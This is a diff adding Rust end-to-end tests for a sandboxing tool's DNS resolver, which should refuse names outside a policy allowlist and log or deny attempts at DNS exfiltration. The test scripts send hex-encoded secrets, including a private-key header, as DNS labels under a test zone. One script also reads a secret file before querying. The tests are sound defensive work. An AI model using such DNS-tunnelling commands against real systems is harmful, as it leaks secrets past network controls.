@@ -1,0 +1,309 @@
+//! guard's resolver (issue 40, docs/policy.md "[dns]"): a session's DNS, sent to any
+//! address at port 53, goes to guard's resolver, which answers only the names the
+//! policy allows. The tests run a real DNS server, Debian's dnsmasq, answering its
+//! own zone only and forwarding nowhere, with its query log: a name guard refused
+//! never appears there. The session asks with dig (UDP and TCP, which checks that
+//! an answer comes from the server it asked) and with glibc (`getent`).
+
+use std::io::Read as _;
+use std::net::{Ipv4Addr, TcpListener};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use guard_tests::{Enforcing, Event, NetNs, dump, fake_agent_exe, scaled, wait_until};
+
+const ZONE: &str = "guard-test.example";
+/// A name the policy allows.
+const ALLOWED: &str = "allowed.guard-test.example";
+/// Data in DNS labels: hex under the anomaly thresholds (short, low entropy).
+const EXFIL: &str = "6b65793d31.7365637265740a.exfil.guard-test.example";
+/// A long one, cut in events to its domain.
+const EXFIL_LONG: &str = "2d2d2d2d2d424547494e204f50454e5353482050524956415445204b45592d2d2d2d2d0a.guard-test.example";
+
+/// dnsmasq answering every name of [`ZONE`] with 127.0.0.1, listening on `addr`:53
+/// (UDP and TCP), logging each query it gets; stopped at drop.
+struct Dnsmasq {
+    child: Child,
+    log: std::path::PathBuf,
+}
+
+impl Dnsmasq {
+    /// Started by `cmd` (`dnsmasq`, or `ip netns exec NS dnsmasq`), on `addr`.
+    fn start(mut cmd: Command, addr: Ipv4Addr, dir: &Path) -> Dnsmasq {
+        let log = dir.join(format!("dnsmasq-{addr}.log"));
+        let out = std::fs::File::create(&log).expect("create the dnsmasq log");
+        cmd.args([
+            "--keep-in-foreground",
+            "--conf-file=/dev/null",
+            "--no-resolv",
+            "--no-hosts",
+            "--bind-interfaces",
+            "--port=53",
+            "--log-queries",
+            "--log-facility=-",
+            "--pid-file=",
+            "--user=root",
+        ])
+        .arg(format!("--listen-address={addr}"))
+        .arg(format!("--address=/{ZONE}/127.0.0.1"))
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(out);
+        let child = cmd.spawn().expect("start dnsmasq (a test dependency)");
+        let d = Dnsmasq { child, log };
+        wait_until("dnsmasq listens", scaled(Duration::from_secs(10)), || {
+            d.queries().contains("cleared cache")
+        });
+        d
+    }
+
+    /// Its log: every query it got (`query[A] NAME from ...`).
+    fn queries(&self) -> String {
+        let mut s = String::new();
+        if let Ok(mut f) = std::fs::File::open(&self.log) {
+            let _ = f.read_to_string(&mut s);
+        }
+        s
+    }
+}
+
+impl Drop for Dnsmasq {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A loopback address of its own for the test's DNS server (port 53 on it).
+fn server_addr() -> Ipv4Addr {
+    let mut b = [0u8; 2];
+    std::fs::File::open("/dev/urandom")
+        .and_then(|mut f| f.read_exact(&mut b))
+        .expect("urandom");
+    Ipv4Addr::new(127, 77, b[0], b[1].max(2))
+}
+
+fn violations<'a>(events: &'a [&'a Event], rule: &str) -> Vec<&'a Event> {
+    events
+        .iter()
+        .copied()
+        .filter(|e| e.str("rule") == Some(rule))
+        .collect()
+}
+
+const POLICY: &str = r#"
+[dns]
+allow = ["allowed.guard-test.example"]
+
+[[rule]]
+id = "egress"
+kind = "network"
+allow = ["127.0.0.0/8"]
+action = "deny"
+
+[[rule]]
+id = "secret"
+kind = "file"
+access = ["read"]
+paths = ["{dir}/secret"]
+secret = true
+action = "log"
+
+[taint]
+egress = "deny"
+allow = ["127.0.0.0/8"]
+"#;
+
+/// Under an allowlist, a name it does not hold never reaches the server, over UDP
+/// or TCP; allowed names resolve (dig accepts the answers as its server's) and their
+/// address connects; a tainted process may resolve nothing off `[taint] allow`.
+#[test]
+fn names_off_the_allowlist_never_leave_and_allowed_ones_resolve() {
+    let server = server_addr();
+    let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver", POLICY, |d| {
+        std::fs::write(d.join("secret"), "s3cret\n").expect("write the secret");
+    });
+    let dns = Dnsmasq::start(Command::new("dnsmasq"), server, t.dir.path());
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen");
+    let port = listener.local_addr().expect("addr").port();
+
+    let dig = format!("dig +tries=1 +time=3 @{server}");
+    let script = format!(
+        "{dig} +short {ALLOWED} > {{dir}}/udp.out; \
+         {dig} +tcp +short {ALLOWED} > {{dir}}/tcp.out; \
+         {dig} {EXFIL} > {{dir}}/exfil-udp.out; \
+         {dig} +tcp {EXFIL_LONG} > {{dir}}/exfil-tcp.out; \
+         exec 3<>/dev/tcp/$(cat {{dir}}/udp.out)/{port} && echo connected > {{dir}}/connect.out; \
+         read s < {{dir}}/secret; {dig} +short {ALLOWED} > {{dir}}/tainted.out; true"
+    );
+    let (run, events) = t.sh(&script);
+    run.assert_success();
+    let out = |name: &str| std::fs::read_to_string(t.dir.join(name)).unwrap_or_default();
+
+    // Allowed: answered over UDP and TCP, as from the server asked (dig drops
+    // answers from another address), and the address it gave connects.
+    assert_eq!(out("udp.out").trim(), "127.0.0.1", "{}", dump(&events));
+    assert_eq!(out("tcp.out").trim(), "127.0.0.1", "{}", dump(&events));
+    assert_eq!(out("connect.out").trim(), "connected");
+    // Refused: NXDOMAIN from guard's resolver, and the server never saw them.
+    for name in ["exfil-udp.out", "exfil-tcp.out"] {
+        assert!(
+            out(name).contains("status: NXDOMAIN"),
+            "{name}: {}",
+            out(name)
+        );
+    }
+    // The tainted shell's dig: off [taint] allow (which holds no names).
+    assert_eq!(out("tainted.out").trim(), "", "{}", out("tainted.out"));
+    let queries = dns.queries();
+    assert_eq!(
+        queries.matches(&format!("query[A] {ALLOWED}")).count(),
+        2,
+        "{queries}"
+    );
+    for label in ["6b65793d31", "2d2d2d2d2d424547"] {
+        assert!(!queries.contains(label), "{label} reached the server:\n{queries}");
+    }
+
+    let mine = Enforcing::of_run(&events, &run);
+    // Each refusal is a violation of dns.names, denied; the long name cut.
+    let names = violations(&mine, "dns.names");
+    assert_eq!(names.len(), 2, "{}", dump(&events));
+    for v in &names {
+        assert_eq!(v.kind(), "dns");
+        assert_eq!(v.str("outcome"), Some("denied"), "{v}");
+        assert_eq!(v.bool("via_resolver"), Some(true), "{v}");
+        assert_eq!(v.str("server"), Some(server.to_string().as_str()), "{v}");
+    }
+    assert!(names.iter().any(|v| v.str("name") == Some(EXFIL)));
+    let cut = names
+        .iter()
+        .find_map(|v| v.str("name").filter(|n| n.starts_with('…')))
+        .unwrap_or_else(|| panic!("no cut name\n{}", dump(&events)));
+    assert!(cut.ends_with(".guard-test.example"), "{cut}");
+    assert!(!cut.contains("2d2d2d2d2d4245"), "{cut}");
+    // The tainted process's query: taint.egress, denied.
+    let tainted = violations(&mine, "taint.egress");
+    assert!(
+        tainted
+            .iter()
+            .any(|v| v.kind() == "dns" && v.str("outcome") == Some("denied")),
+        "{}",
+        dump(&events)
+    );
+    // The connects and sends to the server went to guard's resolver.
+    assert!(
+        mine.iter().any(|e| matches!(e.kind(), "connect" | "send")
+            && e.int("port") == Some(53)
+            && e.bool("via_resolver") == Some(true)),
+        "{}",
+        dump(&events)
+    );
+    drop(listener);
+    t.finish();
+}
+
+/// With `unknown = "log"` (the workstation policy's), every name is answered and
+/// each one the policy does not name is a logged violation.
+#[test]
+fn unknown_names_are_answered_and_logged_where_the_policy_says_so() {
+    let server = server_addr();
+    let rules = r#"
+[dns]
+unknown = "log"
+allow = ["allowed.guard-test.example"]
+
+[[rule]]
+id = "egress"
+kind = "network"
+allow = ["127.0.0.0/8"]
+action = "deny"
+"#;
+    let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver-log", rules, |_| {});
+    let dns = Dnsmasq::start(Command::new("dnsmasq"), server, t.dir.path());
+    let dig = format!("dig +tries=1 +time=3 +short @{server}");
+    let (run, events) = t.sh(&format!(
+        "{dig} {ALLOWED} > {{dir}}/a.out; {dig} {EXFIL} > {{dir}}/b.out"
+    ));
+    run.assert_success();
+    let out = |name: &str| std::fs::read_to_string(t.dir.join(name)).unwrap_or_default();
+    assert_eq!(out("a.out").trim(), "127.0.0.1");
+    assert_eq!(out("b.out").trim(), "127.0.0.1");
+    assert!(dns.queries().contains(EXFIL), "{}", dns.queries());
+    let mine = Enforcing::of_run(&events, &run);
+    let logged = violations(&mine, "dns.names");
+    assert_eq!(logged.len(), 1, "{}", dump(&events));
+    assert_eq!(logged[0].str("name"), Some(EXFIL));
+    assert_eq!(
+        (logged[0].str("action"), logged[0].str("outcome")),
+        (Some("log"), Some("logged"))
+    );
+    t.finish();
+}
+
+/// In a network namespace of its own (a container's, joined to the host by a
+/// veth), a session's DNS goes to a resolver guard starts there: glibc's lookups
+/// of allowed names answer; others never reach the namespace's server.
+#[test]
+fn a_namespace_with_an_interface_gets_a_resolver_of_its_own() {
+    let ns = NetNs::new();
+    let veth = ns.veth();
+    let etc = Path::new("/etc/netns").join(ns.name());
+    std::fs::create_dir_all(&etc).expect("mkdir /etc/netns/NS");
+    std::fs::write(
+        etc.join("resolv.conf"),
+        format!("nameserver {}\noptions attempts:1 timeout:2\n", veth.peer),
+    )
+    .expect("write resolv.conf");
+    struct Cleanup(std::path::PathBuf);
+    impl Drop for Cleanup {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_dir_all(&self.0);
+        }
+    }
+    let _etc = Cleanup(etc);
+    let rules = format!(
+        r#"
+[dns]
+allow = ["allowed.guard-test.example"]
+
+[[rule]]
+id = "egress"
+kind = "network"
+allow = ["127.0.0.0/8", "{}:53"]
+action = "deny"
+"#,
+        veth.peer
+    );
+    let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver-ns", &rules, |_| {});
+    let dns = Dnsmasq::start(ns.command("dnsmasq"), veth.peer, t.dir.path());
+    // The resolver starts in the namespace when the daemon reads the first exec
+    // there: until then the namespace's DNS is refused, so the first lookup is
+    // retried until it answers (bounded by `timeout`).
+    let script = format!(
+        "timeout 20 sh -c 'until getent hosts {ALLOWED} > {{dir}}/a.out; do :; done'; \
+         getent hosts {EXFIL} > {{dir}}/b.out; echo $? > {{dir}}/b.code"
+    );
+    let (run, events) = t.run(
+        "ip",
+        &["netns", "exec", ns.name(), "sh", "-c", &script.replace("{dir}", &t.path(""))],
+    );
+    run.assert_success();
+    let out = |name: &str| std::fs::read_to_string(t.dir.join(name)).unwrap_or_default();
+    assert!(out("a.out").starts_with("127.0.0.1"), "{}", dump(&events));
+    assert_eq!(out("b.out"), "");
+    assert_eq!(out("b.code").trim(), "2", "getent: not found");
+    let queries = dns.queries();
+    assert!(queries.contains(ALLOWED), "{queries}");
+    assert!(!queries.contains("6b65793d31"), "{queries}");
+    let mine = Enforcing::of_run(&events, &run);
+    assert!(
+        violations(&mine, "dns.names")
+            .iter()
+            .any(|v| v.kind() == "dns" && v.str("name") == Some(EXFIL)),
+        "{}",
+        dump(&events)
+    );
+    t.finish();
+}
